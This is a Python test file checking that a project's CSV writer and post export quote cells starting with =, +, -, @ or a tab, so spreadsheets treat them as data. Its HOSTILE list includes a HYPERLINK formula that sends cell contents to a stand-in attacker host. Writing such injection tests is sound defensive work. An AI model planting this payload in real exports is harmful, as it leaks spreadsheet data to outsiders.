"""Every CSV the project writes is data to a spreadsheet, never a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import orjson

from counterspell import Workspace, ingest
from counterspell.csvsafe import DictWriter, Writer, cell
from counterspell.lake.query import export_posts

HOSTILE = ['=HYPERLINK("http://evil.example.com/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx"]


def test_cells_that_start_a_formula_get_a_quote() -> None:
    assert [cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert cell("plain text") == "plain text" and cell(-3) == -3 and cell(None) is None
    buf = io.StringIO()
    Writer(buf).writerow(["=1+1", 5])
    DictWriter(buf, fieldnames=["a"]).writerow({"a": "@x"})
    assert buf.getvalue().splitlines() == ["'=1+1,5", "'@x"]


def test_exported_posts_cannot_run_as_formulas(tmp_path: Path) -> None:
    src = tmp_path / "p.jsonl"
    src.write_bytes(
        b"\n".join(
            orjson.dumps({"platform": "board", "community": "r", "post_id": str(i),
                          "created_at": 1_767_225_600 + i, "text": t, "author_name": t})
            for i, t in enumerate(HOSTILE)
        ) + b"\n"
    )  # fmt: skip
    ws = Workspace.init(tmp_path / "ws")
    ingest(ws, [str(src)], fmt="jsonl")
    out = tmp_path / "posts.csv"
    export_posts(ws, "csv", str(out))
    with open(out, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert {r["text"] for r in rows} == {"'" + t for t in HOSTILE}
